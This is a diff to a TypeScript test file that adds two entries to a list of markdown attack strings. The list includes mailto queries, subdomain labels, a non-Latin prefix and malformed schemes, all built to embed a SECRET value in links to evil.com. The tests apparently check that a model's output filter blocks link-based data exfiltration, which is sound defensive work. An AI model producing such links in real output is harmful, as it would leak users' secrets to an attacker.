@@ -125,6 +125,8 @@ const ATTACKS: [name: string, markdown: string][] = [
   ["a known address with a query", `[words](mailto:bob@news.example?body=${SECRET}&bcc=eve@evil.com)`],
   ["two addresses in one", `[words](mailto:bob@news.example,${SECRET}@evil.com)`],
   ["a link directly behind another", `https://news.example/b](https://evil.com/${SECRET}`],
+  ["an underscore for a last part", `${SECRET}.evil.com._ ${SECRET}.evil.com._x`],
+  ["letters of another script in front", `を.https://evil.com/${SECRET} を.http:evil.com/${SECRET}`],
   ["letters in front", `xhttps://evil.com/${SECRET} 1https://evil.com/${SECRET}`],
 ];
 test.each(ATTACKS)("the model cannot make up a link: %s", (_name, markdown) => {
